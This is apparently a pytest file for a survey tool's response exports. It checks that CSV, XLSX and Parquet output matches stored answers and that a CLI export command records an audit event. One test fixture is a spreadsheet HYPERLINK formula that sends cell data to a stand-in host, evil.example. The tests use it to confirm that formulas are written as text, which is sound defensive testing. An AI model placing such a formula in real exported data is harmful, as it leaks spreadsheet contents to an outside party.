"""Raw response exports: every column against the stored answers, in CSV, XLSX and Parquet."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from collector import exports, flow, models
from collector.localtime import uk
from tests.factories import make_organisation, make_provider, make_round

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _answer(session: Session, response: models.Response, answers: dict[str, Any]) -> None:
    """Go through the questions in order, giving the answers listed and skipping the others
    (notes, and optional questions), until the last listed one is answered."""
    left = dict(answers)
    while left:
        view = flow.view(session, response)
        assert isinstance(view, flow.QuestionView), view
        view = flow.answer(session, response, view.question_id, left.pop(view.question_id, None))
        assert getattr(view, "error", None) is None, view


def _scenario(session: Session) -> dict[str, Any]:
    """A round of the every-type survey: one response skipping the support questions, one with
    every question answered (a multiple choice of two), one still in progress."""
    provider = make_provider(session)
    skipped_org = make_organisation(session, provider, name=FORMULA, district="Old Harlow")
    full_org = make_organisation(session, provider, income_band="100k_500k", is_member=False)
    partial_org = make_organisation(session, provider)
    round_ = make_round(session, provider, audience={})
    by_org = {i.organisation_id: i for i in round_.invitations}

    skipped = flow.start(session, by_org[skipped_org.id], channel="web")
    _answer(session, skipped, {"used": "no", "volunteers": "12", "comments": "+SUM(A1:A9)\t!"})
    flow.complete(session, skipped)
    full = flow.start(session, by_org[full_org.id], channel="telegram")
    _answer(
        session,
        full,
        {
            "used": "yes",
            "ease": "hard",
            "kinds": ["funding", "training"],
            "volunteers": "3",
            "share": "0.25",
        },
    )
    flow.complete(session, full)
    partial = flow.start(session, by_org[partial_org.id], channel="web")
    _answer(session, partial, {"used": "yes"})
    session.commit()
    return {
        "round": round_,
        "skipped": skipped,
        "full": full,
        "partial": partial,
        "skipped_org": skipped_org,
        "full_org": full_org,
    }


def _csv_rows(session: Session, round_: models.Round, **options: Any) -> list[dict[str, str]]:
    out = io.BytesIO()
    exports.write(exports.Export(session, round_, exports.Options(**options)), "csv", out)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, for Excel
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_every_column_of_a_csv_export_matches_the_stored_answers(session: Session) -> None:
    made = _scenario(session)
    rows = _csv_rows(session, made["round"], labels=False)
    # Completed responses only, in the order they started.
    assert [r["response"] for r in rows] == [str(made["skipped"].id), str(made["full"].id)]
    skipped, full = rows
    assert skipped == {
        "response": str(made["skipped"].id),
        "status": "completed",
        "channel": "web",
        "language": "en",
        "started_at": f"{uk(made['skipped'].started_at):%Y-%m-%d %H:%M:%S}",
        "completed_at": f"{uk(made['skipped'].completed_at):%Y-%m-%d %H:%M:%S}",
        "organisation_ref": made["skipped_org"].external_ref,
        "organisation": "'" + FORMULA,  # a formula in a group's name is written as text
        "org_type": "community_group",
        "income_band": "under_10k",
        "district": "Old Harlow",
        "outcomes": "healthy_lifestyles good_lives",
        "is_member": "1",
        "audience": "group",
        "used": "no",
        # skip logic: not asked, so empty (the multiple choice too: not 0)
        "ease": "",
        "kinds/funding": "",
        "kinds/training": "",
        "kinds/none": "",
        "volunteers": "12",
        "share": "",
        "comments": "'+SUM(A1:A9)\t!",
    }
    assert full["channel"] == "telegram" and full["is_member"] == "0"
    assert full["income_band"] == "100k_500k"
    assert (full["used"], full["ease"], full["volunteers"], full["share"]) == (
        "yes",
        "hard",
        "3",
        "0.25",
    )
    assert (full["kinds/funding"], full["kinds/training"], full["kinds/none"]) == ("1", "1", "0")
    assert full["comments"] == ""


def test_labels_in_progress_and_no_free_text(session: Session) -> None:
    made = _scenario(session)
    rows = _csv_rows(session, made["round"], labels=True, in_progress=True, free_text=False)
    assert len(rows) == 3
    full = rows[1]
    assert full["Did you use us?"] == "Yes" and full["How easy?"] == "Hard"
    assert full["Which kinds?: Funding"] == "1" and full["Which kinds?: None of these"] == "0"
    assert full["Income"] == "£100k to £500k" and full["Member"] == "No"
    assert full["Outcomes"] == "Healthy lifestyles; Good Lives"
    assert full["Type of group"] == "Community group" and full["Audience"] == "VCS group"
    assert "Anything else?" not in full  # free text left out
    partial = rows[2]
    assert partial["Status"] == "in_progress" and partial["Completed (UK time)"] == ""
    assert partial["Did you use us?"] == "Yes" and partial["How many volunteers?"] == ""


def test_xlsx_export_writes_text_as_text_and_times_as_times(session: Session) -> None:
    made = _scenario(session)
    out = io.BytesIO()
    written = exports.write(
        exports.Export(session, made["round"], exports.Options(labels=False)), "xlsx", out
    )
    assert written == 2
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    headings = list(rows[0])
    skipped = dict(zip(headings, rows[1], strict=True))
    organisation = sheet.cell(row=2, column=headings.index("organisation") + 1)
    assert organisation.data_type == "s" and organisation.value == FORMULA
    # A formula in free text is a text cell too, its tab kept.
    comments = sheet.cell(row=2, column=headings.index("comments") + 1)
    assert comments.data_type == "s" and comments.value == "+SUM(A1:A9)\t!"
    assert skipped["volunteers"] == 12 and skipped["kinds/funding"] is None
    started = uk(made["skipped"].started_at).replace(tzinfo=None, microsecond=0)
    assert skipped["started_at"].replace(microsecond=0) == started
    full = dict(zip(headings, rows[2], strict=True))
    assert (full["kinds/funding"], full["kinds/none"], full["share"]) == (1, 0, 0.25)


def test_parquet_export_keeps_types(session: Session) -> None:
    made = _scenario(session)
    out = io.BytesIO()
    exports.write(
        exports.Export(session, made["round"], exports.Options(labels=False, in_progress=True)),
        "parquet",
        out,
    )
    table = pq.read_table(io.BytesIO(out.getvalue()))
    assert table.num_rows == 3
    rows = table.to_pylist()
    assert rows[0]["organisation"] == FORMULA  # Parquet holds text as it is
    assert rows[1]["volunteers"] == 3 and rows[1]["share"] == 0.25
    assert rows[1]["kinds/training"] == 1 and rows[0]["kinds/training"] is None
    assert rows[2]["completed_at"] is None
    assert rows[0]["started_at"] == made["skipped"].started_at.replace(microsecond=0) or (
        abs((rows[0]["started_at"] - made["skipped"].started_at).total_seconds()) < 0.001
    )


def test_an_open_link_round_carries_no_organisation(session: Session) -> None:
    provider = make_provider(session)
    round_ = make_round(session, provider, open_link=True, audience={"org_type": ["none"]})
    assert not round_.invitations
    response = flow.start_anonymous(session, round_)
    _answer(session, response, {"used": "no", "volunteers": "4"})
    flow.complete(session, response)
    session.commit()
    rows = _csv_rows(session, round_, labels=False)
    assert len(rows) == 1
    assert not [k for k in rows[0] if "organisation" in k or "contact" in k]
    assert rows[0]["channel"] == "open_link" and rows[0]["volunteers"] == "4"
    assert rows[0]["org_type"] == ""


def test_an_empty_round_exports_its_headings(session: Session) -> None:
    provider = make_provider(session)
    make_organisation(session, provider)
    round_ = make_round(session, provider, audience={})
    session.commit()
    for format_ in exports.FORMATS:
        out = io.BytesIO()
        export = exports.Export(session, round_, exports.Options())
        assert exports.write(export, format_, out) == 0
        assert out.getvalue()
    with pytest.raises(ValueError, match="unknown format"):
        exports.write(export, "ods", io.BytesIO())


# The command ----------------------------------------------------------------------------------


def test_cli_export_writes_the_file_and_audits_it(run, session_factory, tmp_path: Path) -> None:  # noqa: ANN001
    with session_factory() as session:
        made = _scenario(session)
        round_id = made["round"].id
    out = tmp_path / "responses.xlsx"
    result = run(
        "export", "responses", "--round", str(round_id), "--format", "xlsx", "--out", str(out)
    )
    assert result.exit_code == 0, result.output
    assert "Exporting 2 responses" in result.output
    assert f"Wrote 2 responses and 22 columns to {out}." in result.output
    assert openpyxl.load_workbook(out).active.max_row == 3  # type: ignore[union-attr]
    assert not list(tmp_path.glob(".*partial"))
    with session_factory() as session:
        event = session.scalars(
            select(models.AuditEvent).where(models.AuditEvent.action == "responses.export")
        ).one()
        assert event.subject == f"round {round_id}"
        assert event.details == {
            "format": "xlsx",
            "rows": 2,
            "labels": True,
            "in_progress": False,
            "free_text": True,
        }

    again = run(
        "export", "responses", "--round", str(round_id), "--format", "xlsx", "--out", str(out)
    )
    assert again.exit_code == 1 and "already exists" in again.output
    missing = run(
        "export", "responses", "--round", "999", "--format", "csv", "--out", str(tmp_path / "x.csv")
    )
    assert missing.exit_code == 1 and "No round 999" in missing.output
    folder = run(
        "export",
        "responses",
        "--round",
        str(round_id),
        "--format",
        "csv",
        "--out",
        str(tmp_path / "nowhere" / "x.csv"),
    )
    assert folder.exit_code == 1 and "There is no folder" in folder.output
    bad = run(
        "export",
        "responses",
        "--round",
        str(round_id),
        "--format",
        "ods",
        "--out",
        str(tmp_path / "x.ods"),
    )
    assert bad.exit_code == 2 and "'ods' is not one of" in bad.output
